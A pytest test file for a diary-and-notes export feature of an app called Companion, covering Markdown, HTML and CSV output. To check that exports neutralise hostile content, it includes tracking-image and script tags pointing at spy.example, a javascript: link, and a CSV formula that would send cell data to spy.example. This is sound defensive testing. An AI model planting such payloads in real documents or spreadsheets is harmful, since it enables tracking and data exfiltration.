"""Exports to be read: a diary as Markdown or as a page, and the notes as a table."""

from __future__ import annotations

import csv
import re
from datetime import UTC, date, datetime, timedelta
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from companion.archive.diary_words import words_in
from companion.archive.export import Exported, ExportOptions, export
from companion.archive.markdown import escaped, loads
from companion.archive.table import harmless
from companion.clock import SystemClock
from companion.domain import NoteKind, NoteStatus
from companion.errors import ArchiveError
from companion.filters import Filter, Freshness, SavedFilter
from companion.lanes import Cancel, Cancelled
from companion.memory.freshness import Freshnesses
from companion.selection import Format, Selection, format_of
from companion.settings import Settings
from companion.store import diaries, outgoing
from companion.store.store import Store
from tests.archive.conftest import live_a_little
from tests.author import Author
from tests.commanding import Run

READABLE = (Format.MARKDOWN, Format.HTML, Format.CSV)
HOSTILE = '<img src="http://spy.example/a.png"> ![b](http://spy.example/b.png) <script>x</script>'


def exported(store: Store, file: Path, **how: Any) -> Exported:
    """An export in the format that the ending of `file` says."""
    selection = how.pop("selection", Selection())
    return export(store, Settings(), file, selection, ExportOptions(format=format_of(file)), **how)


def told(store: Store, folder: Path, ending: str = "md", **how: Any) -> str:
    """What an export says."""
    file = folder / f"me.{ending}"
    exported(store, file, **how)
    return file.read_text("utf-8")


def table(store: Store, folder: Path) -> list[dict[str, str]]:
    """The rows of the table of notes."""
    file = folder / "me.csv"
    exported(store, file)
    with file.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.DictReader(stream))


def loaded(html: str) -> list[tuple[str, str]]:
    """What a browser would load or run: the tags that do, and the addresses of others."""
    found: list[tuple[str, str]] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag in ("img", "script", "link", "iframe", "object", "base", "form"):
                found.append((tag, str(attrs)))
            found.extend((name, value or "") for name, value in attrs if name in ("src", "style"))

    Reader().feed(html)
    return found


# -- the diary ------------------------------------------------------------------------------------


def test_a_diary_has_each_day_what_was_remembered_and_what_was_said(
    author: Author, tmp_path: Path
) -> None:
    first = author.begins("I moved to Porto", "A new home")
    reply = author.replies("Porto is *lovely*.", first)
    home = author.notes("I moved to Porto", first)
    now = author.clock.now()
    author.store.notes.change(
        home.id, actor="user", reason="", now=now, pinned=True, valid_to=now + timedelta(days=40)
    )
    author.clock.advance(timedelta(days=1))
    author.says("I like jazz", reply)
    assert told(author.store, tmp_path) == (
        "# Diary\n"
        "\n"
        "Written by Companion: 1 note, 1 conversation, 3 messages.\n"
        "\n"
        "## Monday, 4 May 2026\n"
        "\n"
        "### Remembered\n"
        "\n"
        "- I moved to Porto *(fact, until 13 June 2026, pinned)*\n"
        "\n"
        "### A new home\n"
        "\n"
        "> **You** 12:01\n"
        ">\n"
        "> I moved to Porto  \n"
        "\n"
        "> **Companion** 12:02\n"
        ">\n"
        "> Porto is *lovely*.\n"
        "\n"
        "## Tuesday, 5 May 2026\n"
        "\n"
        "### A new home\n"
        "\n"
        "> **You** 12:03\n"
        ">\n"
        "> I like jazz  \n"
    )


def test_a_memory_stands_on_the_day_on_which_it_happened(author: Author, tmp_path: Path) -> None:
    note = author.notes("I was born in Lyon", author.begins("I was born in Lyon"))
    now = author.clock.now()
    author.store.notes.change(
        note.id, actor="user", reason="", now=now, valid_from=now.replace(year=1990)
    )
    assert re.findall("^## .*", told(author.store, tmp_path), re.M) == [
        "## Friday, 4 May 1990",
        "## Monday, 4 May 2026",
    ]


def test_the_ends_of_time_have_their_day(author: Author, tmp_path: Path) -> None:
    note = author.notes("I like tea", author.begins("I like tea"))
    author.store.notes.change(
        note.id,
        actor="user",
        reason="",
        now=author.clock.now(),
        valid_from=datetime.min.replace(tzinfo=UTC),
        valid_to=datetime.max.replace(tzinfo=UTC),
    )
    diary = told(author.store, tmp_path)
    assert "## Monday, 1 January 1\n" in diary
    assert "until 31 December 9999" in diary
    assert '<a href="#m0001-01">' in told(author.store, tmp_path, "html")


@pytest.mark.parametrize("ending", ["md", "html"])
def test_a_diary_speaks_the_language_that_is_asked_for(
    author: Author, tmp_path: Path, ending: str
) -> None:
    live_a_little(author)
    file = tmp_path / f"me.{ending}"
    options = ExportOptions(format=format_of(file), words=words_in("de"))
    export(author.store, Settings(), file, Selection(), options)
    told = file.read_text("utf-8")
    assert all(words in told for words in ("Tagebuch", "Montag", "4. Mai 2026"))
    assert not re.search(r"Monday|\bMay\b|Remembered|\bYou\b|Written by", told)


def test_a_page_shows_what_the_diary_tells(lived: Store, tmp_path: Path) -> None:
    page = told(lived, tmp_path, "html")
    assert page.startswith("<!DOCTYPE html>")
    assert "Porto “grün” 🌱" in page
    assert 'class="words">I moved to Porto with my dog Biscuit.</p>' in page
    assert '<a href="#m2026-05">May</a>' in page
    assert '<a id="m2026-05"></a>' in page
    assert "prefers-color-scheme: dark" in page
    assert loaded(page) == []
    assert "default-src 'none'" in page


def test_nothing_that_was_said_is_loaded_or_run_by_who_reads_it(
    author: Author, tmp_path: Path
) -> None:
    said = author.begins(HOSTILE, HOSTILE)
    author.replies(f"{HOSTILE}\n\n# A heading\n\n[a](javascript:alert)", said)
    author.notes(HOSTILE, said)
    assert loaded(told(author.store, tmp_path, "html")) == []
    shown = MarkdownIt("commonmark").render(told(author.store, tmp_path))
    assert loaded(shown) == []
    assert "javascript:" not in re.sub(r"\[a\].*", "", shown)


@given(st.text(alphabet=st.sampled_from("a1 .)#*_`[]()!<>&~|\\-+=")))
def test_what_the_person_said_is_shown_as_it_was_said(text: str) -> None:
    text = text.strip()
    shown = MarkdownIt("commonmark").enable("strikethrough").render(escaped(text))
    plain = shown.removeprefix("<p>").removesuffix("</p>\n")
    assert unescape(plain) == text


def test_a_reply_stays_markdown_unless_it_would_load_something() -> None:
    assert not loads("```html\n<img src='a'>\n```\n and `![a](b)`, 1 < 2")
    assert loads("![a](b)")
    assert loads("a <b>c</b>")


def test_what_was_off_the_record_or_forgotten_is_in_none_of_them(
    author: Author, tmp_path: Path
) -> None:
    store, clock = author.store, author.clock
    off = author.begins("Nothing of this", "Secret")
    store.conversations.set_off_the_record(off.conversation_id, True)
    gone = author.notes("I like tea", author.begins("I like tea", "Tea"))
    store.notes.set_status(
        [gone.id], NoteStatus.FORGOTTEN, actor="user", reason="", now=clock.now()
    )
    store.conversations.set_deleted(author.begins("Deleted words").conversation_id, clock.now())
    left = author.says("The branch left", author.begins("Hello", "Kept"))
    author.rewrites("The branch taken", left)
    for format in READABLE:
        words = told(store, tmp_path, format.value)
        for secret in ("Nothing of this", "Secret", "Deleted words", "branch left", gone.id):
            assert secret not in words
    diary = told(store, tmp_path)
    assert "The branch taken" in diary
    assert "- I like tea" not in diary


def test_what_is_no_longer_so_is_struck_out(author: Author, tmp_path: Path) -> None:
    note = author.notes("I like tea", author.begins("I like tea"))
    author.store.notes.set_status(
        [note.id], NoteStatus.SUPERSEDED, actor="test", reason="", now=author.clock.now()
    )
    assert "- ~~I like tea~~ *(fact)*" in told(author.store, tmp_path)
    assert '<span class="past">I like tea</span>' in told(author.store, tmp_path, "html")


def test_without_conversations_their_gist_is_told(author: Author, tmp_path: Path) -> None:
    message = author.begins("I like tea")
    author.notes("I like tea", message, kind=NoteKind.EPISODE)
    assert "*(episode)*" not in told(author.store, tmp_path)
    alone = told(author.store, tmp_path, selection=Selection(conversations=False))
    assert "- I like tea *(episode)*" in alone
    assert "**You**" not in alone


# -- the table ------------------------------------------------------------------------------------


def test_the_table_has_a_row_for_each_note(lived: Store, tmp_path: Path) -> None:
    rows = {row["text"]: row for row in table(lived, tmp_path)}
    assert rows["My sister Ada lives in Lyon"]["kind"] == "relationship"
    assert rows["My sister Ada lives in Lyon"]["people"] == "Ada"
    assert rows["I live in Porto"]["keywords"] == "Porto; home"
    assert rows["my dog Biscuit"]["pinned"] == "1"
    assert len(rows) == lived.notes.count()


def test_no_cell_is_a_formula(author: Author, tmp_path: Path) -> None:
    said = '=HYPERLINK("http://spy.example?"&A1)'
    author.notes(said, author.begins(said))
    assert [row["text"] for row in table(author.store, tmp_path)] == [f"'{said}"]


@given(st.text(max_size=20))
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert harmless(text) in (text, f"'{text}")
    assert not harmless(text).lstrip().startswith(tuple("=+-@\t\r"))


# -- what leaves, and how -------------------------------------------------------------------------


def test_the_same_memory_makes_the_same_bytes(lived: Store, tmp_path: Path) -> None:
    for format in READABLE:
        assert told(lived, tmp_path, format.value) == told(lived, tmp_path, format.value)


def test_a_selection_leaves_out_the_rest(author: Author, tmp_path: Path) -> None:
    author.notes("I like tea", author.begins("I like tea"))
    author.clock.advance(timedelta(days=10))
    now = author.clock.now()
    author.notes("I like jazz", author.begins("I like jazz"))
    only_jazz = (
        Selection(since=now),
        Selection(filter=Filter(words="jazz")),
        Selection(filter=Filter(since=date(2026, 5, 10))),
    )
    for selection in only_jazz:
        diary = told(author.store, tmp_path, selection=selection)
        assert "jazz" in diary
        assert "tea" not in diary


def test_a_filter_may_ask_how_fresh_they_are(author: Author, tmp_path: Path) -> None:
    author.notes("I like tea", author.begins("I like tea"))
    author.clock.advance(timedelta(days=3000))
    author.notes("I like jazz", author.begins("I like jazz"))
    filter = Filter(freshness=(Freshness.FRESH,))
    fresh = Freshnesses().aging(filter, author.store, author.clock.now())
    diary = told(author.store, tmp_path, selection=Selection(filter=filter), aging=fresh)
    assert "jazz" in diary
    assert "tea" not in diary


def test_a_cancelled_one_leaves_what_was_there(
    lived: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # It is cancelled in the middle of what is being read.
    monkeypatch.setattr(diaries, "PAGE", 2)
    monkeypatch.setattr(outgoing, "PAGE", 2)
    for format in Format:
        file, cancel = tmp_path / f"me.{format}", Cancel()
        file.write_bytes(b"the last one")

        def half(done: int, total: int, cancel: Cancel = cancel) -> None:
            if done > total / 2:
                cancel.set()

        with pytest.raises(Cancelled):
            exported(lived, file, progress=half, cancel=cancel)
        assert file.read_bytes() == b"the last one"
    assert len(list(tmp_path.glob(".*"))) == 0


def test_progress_ends_where_all_is_done(lived: Store, tmp_path: Path) -> None:
    for format in READABLE:
        steps: list[tuple[int, int]] = []
        exported(lived, tmp_path / f"me.{format}", progress=lambda *it, to=steps: to.append(it))
        assert steps[-1][0] == steps[-1][1] == len(steps)


def test_a_place_that_cannot_be_written_to_is_said(lived: Store, tmp_path: Path) -> None:
    with pytest.raises(ArchiveError, match="cannot be written"):
        exported(lived, tmp_path / "nowhere" / "me.md")


@pytest.mark.slow
def test_from_the_shell_the_ending_says_which(
    home: Path, tmp_path: Path, run_companion: Run
) -> None:
    def run(*arguments: str) -> Any:
        return run_companion("--home", str(home), *arguments)

    run("remember", "The bins go out on Thursday")
    for ending, begins in (("md", "# Diary"), ("html", "<!DOCTYPE"), ("csv", "\ufeffid,kind,text")):
        file = tmp_path / f"me.{ending}"
        assert run("export", str(file)).code == 0
        assert file.read_text("utf-8").startswith(begins)
        assert "The bins go out on Thursday" in file.read_text("utf-8")
    store = Store(home, SystemClock())
    store.saved_filters.put(SavedFilter("Bins", Filter(words="bins")), SystemClock().now())
    store.saved_filters.put(SavedFilter("Tea", Filter(words="tea")), SystemClock().now())
    store.close()
    for name, notes in (("Bins", 1), ("Tea", 0)):
        done = run("export", str(tmp_path / f"{name}.md"), "--filter", name, "--json")
        assert done.json["records"]["notes"] == notes
    odd = tmp_path / "me.txt"
    assert run("export", str(odd), "--format", "markdown", "--language", "de").code == 0
    assert odd.read_text("utf-8").startswith("# Tagebuch")
    unknown = ("--format", "markdown", "--language", "xx", "--force")
    assert run("export", str(odd), *unknown).code == 2
    assert odd.read_text("utf-8").startswith("# Tagebuch"), "it is left as it was"
    assert run("export", str(odd), "--format", "pdf", "--force").code == 2
    assert run("export", str(odd), "--format", "html", "--encrypt", "--force").code == 2
